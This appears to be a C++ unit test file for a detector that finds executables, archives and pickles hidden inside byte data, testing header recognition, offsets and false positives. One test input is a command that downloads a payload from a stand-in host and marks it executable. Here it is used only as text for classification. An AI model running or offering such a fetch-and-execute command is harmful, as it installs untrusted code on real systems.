#include "inspect/hidden_content.h"

#include <gtest/gtest.h>

#include <random>
#include <string>

namespace holdfast::inspect {
namespace {

using base::Bytes;

void put_le(Bytes& bytes, std::size_t at, std::uint64_t value, std::size_t width) {
  for (std::size_t i = 0; i < width; ++i) bytes[at + i] = static_cast<std::uint8_t>(value >> (8 * i));
}

void put_text(Bytes& bytes, std::size_t at, std::string_view text) {
  std::copy(text.begin(), text.end(), bytes.begin() + static_cast<std::ptrdiff_t>(at));
}

Bytes elf() {
  Bytes bytes(64);
  put_text(bytes, 0, "\x7F\x45LF\x02\x01\x01");
  put_le(bytes, 16, 3, 2);
  put_le(bytes, 18, 62, 2);
  put_le(bytes, 20, 1, 4);
  put_le(bytes, 52, 64, 2);
  return bytes;
}

Bytes pe() {
  Bytes bytes(512);
  put_text(bytes, 0, "MZ");
  put_le(bytes, 0x3C, 0x80, 4);
  put_text(bytes, 0x80, "PE");
  put_le(bytes, 0x84, 0x8664, 2);
  put_le(bytes, 0x86, 5, 2);
  put_le(bytes, 0x94, 240, 2);
  return bytes;
}

Bytes mach_o() {
  Bytes bytes(64);
  put_le(bytes, 0, 0xFEED'FACF, 4);
  put_le(bytes, 4, 0x0100'000C, 4);
  put_le(bytes, 12, 2, 4);
  put_le(bytes, 16, 16, 4);
  put_le(bytes, 20, 1200, 4);
  return bytes;
}

Bytes zip() {
  Bytes bytes(64);
  put_text(bytes, 0, "PK\x03\x04\x14");
  put_le(bytes, 8, 8, 2);
  put_le(bytes, 26, 5, 2);
  put_text(bytes, 30, "a.txt");
  return bytes;
}

Bytes pickle() {
  Bytes bytes(32);
  put_text(bytes, 0, "\x80\x04\x95\x20");
  bytes[11] = 0x8C;
  return bytes;
}

Bytes text(std::string_view what) { return {what.begin(), what.end()}; }

TEST(HiddenContent, IsKnownByItsWholeHeader) {
  EXPECT_EQ(hidden_content(elf())->what, "an ELF program");
  EXPECT_TRUE(hidden_content(elf())->runs);
  EXPECT_TRUE(hidden_content(pe())->runs);
  EXPECT_TRUE(hidden_content(mach_o())->runs);
  EXPECT_FALSE(hidden_content(zip())->runs);
  EXPECT_TRUE(hidden_content(pickle())->unpickled);
  EXPECT_TRUE(hidden_content(text("#!/bin/sh\nid\n"))->runs);
  EXPECT_TRUE(hidden_content(text("\x80\x02"
                                  "ccollections\nOrderedDict\n"))
                  ->unpickled);
}

TEST(HiddenContent, IsNotKnownByAMagicAlone) {
  for (const auto* magic :
       {"\x7F\x45LF", "MZ", "PK\x03\x04", "\xCF\xFA\xED\xFE", "\x80\x04\x95", "#!", "7z"}) {
    Bytes bytes(2048, 0xA7);
    put_text(bytes, 0, magic);
    EXPECT_FALSE(hidden_content(bytes)) << magic;
  }
}

TEST(HiddenContent, IsNotKnownWhereItsHeaderIsCut) {
  for (const Bytes& whole : {elf(), zip(), mach_o()}) {
    for (std::size_t size = 0; size < 31; ++size)
      EXPECT_FALSE(hidden_content(base::ByteView(whole).first(size))) << size;
  }
  const Bytes program = pe();
  EXPECT_FALSE(hidden_content(base::ByteView(program).first(0x80)));
}

TEST(HiddenContent, IsFoundAtEveryPlace) {
  for (std::size_t at = 0; at < 200; ++at) {
    Bytes bytes(1000, 0x55);
    const Bytes program = elf();
    std::copy(program.begin(), program.end(), bytes.begin() + static_cast<std::ptrdiff_t>(at));
    const auto found = find_hidden_content(bytes, 0, bytes.size());
    ASSERT_TRUE(found) << at;
    EXPECT_EQ(found->offset, at);
    EXPECT_FALSE(find_hidden_content(bytes, at + 1, bytes.size()));
    EXPECT_FALSE(find_hidden_content(bytes, 0, at));
  }
}

TEST(HiddenContent, IsNotSeenInNoise) {
  std::mt19937_64 random(7);
  Bytes bytes(16UL << 20);
  for (auto& byte : bytes) byte = static_cast<std::uint8_t>(random());
  EXPECT_FALSE(find_hidden_content(bytes, 0, bytes.size()));
  for (std::size_t at = 0; at + 512 < (1UL << 20); at += 61)
    EXPECT_FALSE(hidden_at_start(base::ByteView(bytes).subspan(at, 512))) << at;
}

TEST(HiddenContent, AtAStartIsSeenBehindWhatToolsPutBefore) {
  Bytes behind(4, 9);
  base::append(behind, elf());
  EXPECT_EQ(hidden_at_start(behind)->offset, 4U);
  Bytes digest(4, 1);
  base::append(digest, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
  EXPECT_EQ(hidden_at_start(digest)->content.what, "a digest in hexadecimal, as before hidden data");
  EXPECT_EQ(hidden_at_start(text("curl -s https://example.org/payload.bin -o /tmp/p && chmod +x /tmp/p"))
                ->content.what,
            "text");
  EXPECT_FALSE(hidden_at_start(text(std::string(100, 'a'))));
  EXPECT_FALSE(hidden_at_start({}));
}

}  // namespace
}  // namespace holdfast::inspect
